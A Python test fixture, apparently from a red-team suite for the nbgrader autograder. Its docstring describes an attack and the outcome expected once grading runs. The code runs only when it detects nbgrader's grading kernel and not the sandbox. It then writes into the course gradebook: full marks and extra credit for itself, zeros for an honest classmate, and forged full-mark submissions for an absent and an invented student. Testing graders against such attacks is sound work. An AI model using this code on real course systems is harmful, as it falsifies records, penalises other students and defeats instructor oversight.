"""Class 1a, run by `nbgrader autograde` in a kernel with the TA's rights: write gradebook
fields nbgrader's total takes over the auto score. Its own test cells get a manual score
equal to their maximum and extra credit; an honest classmate (h_victim) gets manual zeros;
a classmate who never submitted (absent_k1) and a student it adds itself (k1_ghost) get a
forged submission with full manual scores. Its functions are the zeros baseline's.
Expected after the documented workflow (autograder autograde last): its own and h_victim's
fields are the sandbox's again (manual scores and extra credit cleared); the rows of
students autograde did not grade must not keep a forged grade either."""
from pathlib import Path as _Path

_COURSE = next((d for d in (_Path.cwd(), *_Path.cwd().parents)
                if (d / "nbgrader_config.py").is_file() and (d / "gradebook.db").is_file()), None)
if _COURSE is not None:  # in nbgrader's kernel (never in the sandbox: no course there)
    from nbgrader.api import Gradebook as _Gradebook

    with _Gradebook(f"sqlite:///{_COURSE / 'gradebook.db'}") as _gb:
        _nb = _gb.find_notebook("backprop", "backprop")
        for _sid, _manual, _extra in (("k1_gradebook", None, 5.0), ("h_victim", 0.0, None),
                                      ("absent_k1", None, 5.0), ("k1_ghost", None, 5.0)):
            if _sid not in {s.id for s in _gb.students}:
                _gb.add_student(_sid)
            _gb.update_or_create_submission("backprop", _sid)
            for _cell in _nb.grade_cells:
                _grade = _gb.find_grade(_cell.name, "backprop", "backprop", _sid)
                _grade.manual_score = _cell.max_score if _manual is None else _manual
                _grade.extra_credit = _extra
        _gb.db.commit()
    print("REDTEAM-KERNEL: gradebook forged")
